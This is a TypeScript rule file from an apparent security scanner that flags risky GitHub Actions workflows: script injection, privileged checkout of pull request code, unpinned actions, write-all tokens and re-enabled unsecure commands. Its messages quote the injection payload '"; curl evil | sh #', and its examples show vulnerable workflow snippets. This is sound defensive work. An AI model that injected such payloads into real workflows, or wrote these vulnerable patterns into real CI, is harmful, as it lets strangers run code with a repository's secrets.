/**
 * GitHub Actions rules (workflow files and composite `action.yml`), from what zizmor, actionlint
 * and GitHub Security Lab's "keeping your GitHub Actions secure" series describe. Without a YAML
 * parser (a diff shows only part of a file), a line's place is found by walking up the known lines
 * by indentation to the key that owns it: `run: |` owns its script lines, `with:` its inputs.
 * Workflows under test/fixture/example folders never run and are not checked.
 */
import type { Match, Rule, Severity, SourceFile } from '../types';
import { isCommentLine } from './util';

interface Key {
  line: number;
  indent: number;
  key: string;
  value: string;
}

const KEY = /^(\s*)(-\s+)?([A-Za-z_][\w.-]*|"[^"\n]*"|'[^'\n]*')\s*:(?:\s+(.*?))?\s*$/;
const indentOf = (text: string) => text.length - text.trimStart().length;

function keyAt(line: number, text: string): Key | null {
  if (text.length > 2000) return null;
  const m = KEY.exec(text);
  if (!m) return null;
  return { line, indent: (m[1] ?? '').length + (m[2] ?? '').length, key: (m[3] ?? '').replace(/^["']|["']$/g, ''), value: m[4] ?? '' };
}

/** The key owning line `n` (the nearest shallower key above it), or null when the diff does not show it. */
function ownerOf(file: SourceFile, n: number): Key | null {
  let text = file.lines.get(n) ?? '';
  let indent = indentOf(text);
  for (let m = n - 1; file.lines.has(m); m--) {
    text = file.lines.get(m) as string;
    if (text.trim() === '' || indentOf(text) >= indent) continue;
    const k = keyAt(m, text);
    if (k) return k;
    indent = indentOf(text); // a shallower script line: keep climbing to its key
  }
  return null;
}

/** The known lines of the step (`- uses: …` list item) holding line `n`, and where it starts; null when the diff does not show its start. */
function stepOf(file: SourceFile, n: number): { start: number; text: string } | null {
  const indent = indentOf(file.lines.get(n) ?? '');
  for (let m = n; file.lines.has(m); m--) {
    const t = file.lines.get(m) as string;
    if (!/^\s*-\s/.test(t) || indentOf(t) >= indent) continue;
    const out = [t];
    for (let k = m + 1; file.lines.has(k); k++) {
      const u = file.lines.get(k) as string;
      if (u.trim() !== '' && indentOf(u) <= indentOf(t)) break;
      out.push(u);
    }
    return { start: m, text: out.join('\n') };
  }
  return null;
}

const stepUses = (file: SourceFile, n: number, re: RegExp) => re.test(stepOf(file, n)?.text ?? '');

const BLOCK = /^[|>][-+0-9]*\s*(#.*)?$/;
const GITHUB_SCRIPT = /uses:\s*['"]?[\w.-]+\/github-script@/;

type Place = 'run' | 'script' | 'other' | 'unknown';

/** Whether line `n` is shell (`run:`) or github-script code, some other YAML value, or unknown. */
function placeOf(file: SourceFile, n: number): Place {
  const text = file.lines.get(n) ?? '';
  const own = keyAt(n, text);
  if (own?.key === 'run') return 'run';
  if (own?.key === 'script' && stepUses(file, n, GITHUB_SCRIPT)) return 'script';
  const owner = ownerOf(file, n);
  if (!owner) return own ? 'unknown' : SHELL_LIKE.test(text) ? 'run' : 'unknown';
  if (owner.key === 'run' && (owner.value === '' || BLOCK.test(owner.value))) return 'run';
  if (owner.key === 'script' && BLOCK.test(owner.value) && stepUses(file, owner.line, GITHUB_SCRIPT)) return 'script';
  return 'other';
}

/** A line that reads as a shell command (for script lines whose `run:` the diff does not show). */
const SHELL_LIKE =
  /^\s*(echo|printf|curl|wget|gh|git|if \[|then|elif|export|cat|node|python3?|npm|npx|yarn|pnpm|bash|sh|jq|sed|grep|test|\[\[?|[A-Z_][A-Z0-9_]*=|docker|make|cd|mkdir|touch|aws|az|gcloud)\b/;

/** Contexts whose text someone outside the repository chooses (titles, bodies, branch names, commit messages). */
const UNTRUSTED = new RegExp(
  [
    String.raw`github\.event\.[\w.*\[\]]*\.(?:title|body|page_name|head_branch|display_title|label)\b`,
    String.raw`github\.event\.[\w.*\[\]]*head\.repo\.default_branch\b`,
    String.raw`github\.event\.[\w.*\[\]]*head\.ref\b`,
    String.raw`github\.event\.(?:commits|head_commit|merge_group\.head_commit)[\w.*\[\]]*\.(?:message|email|name)\b`,
    String.raw`github\.event\.workflow_run\.head_commit[\w.*\[\]]*`,
    String.raw`github\.event\.workflow_run\.head_repository\.description\b`,
    String.raw`github\.head_ref\b`,
    String.raw`github\.event(?:\.(?:issue|pull_request|comment|review|review_comment|discussion|head_commit|commits))?\s*\)`,
  ].join('|'),
);
/** workflow_dispatch / workflow_call / composite-action inputs: chosen by someone with some access. */
const INPUTS = /(?:^|[^\w.])(?:github\.event\.)?inputs\.[\w-]+/;
/** A test that only yields true/false is harmless whatever its argument. */
const BOOLEAN_PARTS = /\b(?:contains|startsWith|endsWith)\([^()]*\)|[\w.*[\]]+\s*(?:==|!=)\s*(?:'[^']*'|"[^"]*"|[\w.]+)/g;
const EXPR = /\$\{\{([^}]*)\}\}/g;

function riskOf(expr: string, taintedEnv: ReadonlySet<string>): Severity | null {
  const body = expr.replace(BOOLEAN_PARTS, ' ');
  if (UNTRUSTED.test(body)) return 'high';
  const env = /\benv\.([\w-]+)/.exec(body);
  if (env && taintedEnv.has(env[1] as string)) return 'high';
  if (INPUTS.test(body)) return 'medium';
  return null;
}

function exprRisk(text: string, taintedEnv: ReadonlySet<string>): Severity | null {
  let worst: Severity | null = null;
  for (const m of text.matchAll(EXPR)) {
    const r = riskOf(m[1] ?? '', taintedEnv);
    if (r === 'high') return r;
    worst ??= r;
  }
  return worst;
}

/** Fixture, test and example workflows never run. */
const notRun = (file: SourceFile) => /(^|\/)(tests?|__tests__|fixtures?|testdata|test-data|examples?|samples?)\//i.test(file.path);

function* codeLines(file: SourceFile, needle: string): Generator<{ line: number; text: string }> {
  if (notRun(file)) return;
  for (const [line, text] of file.lines) if (text.includes(needle) && !isCommentLine('workflow', text)) yield { line, text };
}

/** env: names set from untrusted contexts (`TITLE: ${{ github.event.issue.title }}`): `${{ env.TITLE }}` in a script is as bad. */
function taintedEnvOf(file: SourceFile): Set<string> {
  const out = new Set<string>();
  for (const { line, text } of codeLines(file, '${{')) {
    const k = keyAt(line, text);
    if (k && riskOf(k.value, new Set()) === 'high' && ownerOf(file, line)?.key === 'env') out.add(k.key);
  }
  return out;
}

const scriptInjection: Rule = {
  id: 'gha.script-injection',
  class: 'workflows',
  severity: 'high',
  title: 'Script injection in a workflow',
  message:
    'An expression someone outside the repository controls (a title, body, branch name or commit message) is pasted into a script: text like `"; curl evil | sh #` runs as code with the job\'s token and secrets.',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub Actions expression, not a JS template
  fix: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"` (in github-script read `context.payload` or `process.env`).',
  cwe: ['CWE-78', 'CWE-94'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub Actions expression, not a JS template
  example: 'run: echo "${{ github.event.issue.title }}"',
  languages: ['workflow'],
  *check(file) {
    const tainted = taintedEnvOf(file);
    for (const { line, text } of codeLines(file, '${{')) {
      const risk = exprRisk(text, tainted);
      if (!risk) continue;
      const place = placeOf(file, line);
      if (place !== 'run' && place !== 'script') continue;
      const where = place === 'run' ? 'a run: script' : 'an actions/github-script script';
      yield {
        line,
        column: text.indexOf('${{') + 1,
        severity: risk,
        message:
          risk === 'high'
            ? `An attacker-controlled expression is expanded inside ${where}; text like \`"; curl evil | sh #\` would run as code.`
            : `A workflow/action input is expanded inside ${where}; whoever sets the input can inject commands.`,
      } satisfies Match;
    }
  },
};

/** A trigger that runs with the base repository's secrets while the PR comes from anyone. */
const PRIVILEGED_TRIGGER =
  /^\s*(?:-\s*)?['"]?(?:pull_request_target|workflow_run)['"]?\s*(?::|$)|^\s*['"]?on['"]?:.*\b(?:pull_request_target|workflow_run)\b|event_name\s*==\s*['"](?:pull_request_target|workflow_run)['"]/;
const HEAD_REF =
  /github\.event\.(?:pull_request\.head\.(?:sha|ref)|pull_request\.merge_commit_sha|workflow_run\.head_(?:sha|branch))|github\.head_ref|refs\/pull\/|head\.repo\.full_name/;
const CHECKOUT_STEP = /uses:\s*['"]?[\w.-]+\/checkout@/;
const RUN_CHECKOUT =
  /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|switch|pull)\b[^#]*(?:pull\/|head\.sha|head\.ref|head_ref|HEAD_SHA|HEAD_REF|PR_HEAD|head_sha|head_branch|merge_commit_sha)/;

const prTargetCheckout: Rule = {
  id: 'gha.pr-target-checkout',
  class: 'workflows',
  severity: 'high',
  title: 'Untrusted pull request code checked out in a privileged workflow',
  message:
    "This pull_request_target/workflow_run workflow checks out the pull request's code: any build or install step then runs a stranger's code with write access and secrets.",
  fix: 'Run untrusted code under the `pull_request` trigger (no secrets, read-only token); if the privileged job must see the PR, check out the base only, or pass results between a `pull_request` job and a privileged one as artifacts treated as data.',
  cwe: ['CWE-829'],
  example: [
    'on: pull_request_target',
    'jobs:',
    '  preview:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@v4',
    '        with:',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub Actions expression, not a JS template
    '          ref: ${{ github.event.pull_request.head.sha }}',
    '      - run: npm ci && npm run build',
  ].join('\n'),
  languages: ['workflow'],
  *check(file) {
    if (notRun(file)) return;
    let privileged = false;
    for (const text of file.lines.values()) if (!isCommentLine('workflow', text) && PRIVILEGED_TRIGGER.test(text)) privileged = true;
    if (!privileged) return;
    const steps = new Set<number>();
    for (const [line, text] of file.lines) {
      if (
        isCommentLine('workflow', text) ||
        !(text.includes('ref') || text.includes('repository') || text.includes('checkout') || text.includes('git'))
      )
        continue;
      const k = keyAt(line, text);
      if (k && (k.key === 'ref' || k.key === 'repository') && HEAD_REF.test(k.value)) {
        const step = ownerOf(file, line)?.key === 'with' ? stepOf(file, line) : null;
        if (step && CHECKOUT_STEP.test(step.text) && !steps.has(step.start)) {
          steps.add(step.start); // `ref:` and `repository:` of one checkout are one finding
          yield { line };
        }
      } else if (RUN_CHECKOUT.test(text) && placeOf(file, line) === 'run') yield { line };
    }
  },
};

const FULL_SHA = /^[0-9a-f]{40}$/i;

const unpinnedAction: Rule = {
  id: 'gha.unpinned-action',
  class: 'workflows',
  severity: 'medium',
  title: 'Third-party action not pinned to a commit',
  message:
    'A third-party action is referenced by a tag or branch, which its owner (or whoever takes over the repository) can move to new code at any time.',
  fix: "Pin the action to a full 40-character commit sha and keep the version in a comment (`uses: owner/action@<sha> # v1.2.3`); Dependabot and Renovate update pinned shas. GitHub's own `actions/*` and `github/*` are not flagged.",
  cwe: ['CWE-829'],
  example: 'uses: tj-actions/changed-files@v44',
  languages: ['workflow'],
  *check(file) {
    for (const { line, text } of codeLines(file, 'uses')) {
      const m = /^\s*(?:-\s+)?uses:\s*(['"]?)([^\s'"#]+)\1/.exec(text);
      const ref = m?.[2];
      if (!ref || ref.startsWith('./') || ref.includes('${{')) continue;
      if (ref.startsWith('docker://')) {
        if (!/@sha256:[0-9a-f]{64}$/i.test(ref))
          yield {
            line,
            message:
              'A container action is referenced by a tag, which can be re-pushed with different content; pin it by digest (`docker://image@sha256:…`).',
          };
        continue;
      }
      const at = ref.lastIndexOf('@');
      if (at < 0) continue;
      const owner = (ref.split('/')[0] ?? '').toLowerCase();
      if (owner === 'actions' || owner === 'github') continue; // GitHub's own: trusted by policy (zizmor's default too)
      if (ref.startsWith('slsa-framework/slsa-github-generator/')) continue; // its reusable workflows must be called by tag to verify provenance
      const version = ref.slice(at + 1);
      if (FULL_SHA.test(version)) continue;
      const what = /^[0-9a-f]{7,39}$/i.test(version) ? 'an abbreviated commit sha' : `the mutable ref \`${version}\``;
      yield { line, message: `\`${ref.slice(0, at)}\` is referenced by ${what}; its owner can point it at different code at any time.` };
    }
  },
};

const writeAll: Rule = {
  id: 'gha.permissions-write-all',
  class: 'workflows',
  severity: 'medium',
  title: 'Workflow token with every write permission',
  message:
    '`permissions: write-all` gives the job token write access to code, releases, packages and settings; one compromised step can then push to the repository.',
  fix: 'Grant only what the job needs, e.g. `permissions: { contents: read, pull-requests: write }`.',
  cwe: ['CWE-250'],
  example: 'permissions: write-all',
  languages: ['workflow'],
  *check(file) {
    for (const { line, text } of codeLines(file, 'write-all')) {
      const k = keyAt(line, text);
      if (k?.key === 'permissions' && /^['"]?write-all['"]?(\s*#.*)?$/.test(k.value)) yield { line };
    }
  },
};

const unsecureCommands: Rule = {
  id: 'gha.unsecure-commands',
  class: 'workflows',
  severity: 'high',
  title: 'Deprecated set-env/add-path workflow commands re-enabled',
  message:
    'ACTIONS_ALLOW_UNSECURE_COMMANDS turns `::set-env` and `::add-path` back on: anything that prints to the log (a test name, an issue title) can then set environment variables such as NODE_OPTIONS or PATH for later steps.',
  fix: 'Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead.',
  cwe: ['CWE-77'],
  example: 'ACTIONS_ALLOW_UNSECURE_COMMANDS: true',
  languages: ['workflow'],
  *check(file) {
    for (const { line, text } of codeLines(file, 'ACTIONS_ALLOW_UNSECURE_COMMANDS'))
      if (/ACTIONS_ALLOW_UNSECURE_COMMANDS['"]?\s*[:=]\s*['"]?true\b/i.test(text)) yield { line };
  },
};

export const WORKFLOW_RULES: readonly Rule[] = [scriptInjection, prTargetCheckout, unpinnedAction, writeAll, unsecureCommands];
